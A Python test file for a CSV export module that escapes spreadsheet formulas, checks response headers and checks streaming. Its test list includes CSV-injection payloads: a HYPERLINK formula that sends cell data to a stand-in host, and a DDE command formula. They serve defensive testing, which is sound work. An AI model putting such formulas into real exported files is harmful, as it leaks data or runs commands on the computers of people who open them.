"""Tables that leave the house: opened in a spreadsheet they are text, and read back the same."""

import csv
import io

import pytest

from articles.exports.csv import harmless, plain, rows_response

FORMULAS = [
    "=1+1", "+86 10 1234", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "－－城南记者",
    '=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_and_comes_back(text) -> None:
    assert harmless(text) == f"'{text}"
    assert plain(harmless(text)) == text


@pytest.mark.parametrize("cell", ["城南举行竞赛", "", "a=b", "'引语'", "“=”", 0, -3, 1.5])
def test_other_cells_stay_as_they_are(cell) -> None:
    assert harmless(cell) == cell
    assert plain(str(cell)) == str(cell)


def test_a_response_is_a_file_that_excel_reads() -> None:
    rows = [("本报讯，“甲”", None, -3), ("=1+1", "两\n行", '引"号')]
    response = rows_response(["标题", "备注", "数"], iter(rows), "标签.csv")
    content = b"".join(response)
    assert content.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''%E6%A0%87")
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))) == [
        ["标题", "备注", "数"],
        ["本报讯，“甲”", "", "-3"],
        ["'=1+1", "两\n行", '引"号'],
    ]


def test_rows_are_asked_for_as_they_are_sent() -> None:
    asked = []

    def rows():
        for number in range(3):
            asked.append(number)
            yield [number]

    sent = iter(rows_response(["n"], rows(), "n.csv"))
    assert asked == []
    assert [next(sent), next(sent), next(sent)][2] == b"0\r\n"
    assert asked == [0]
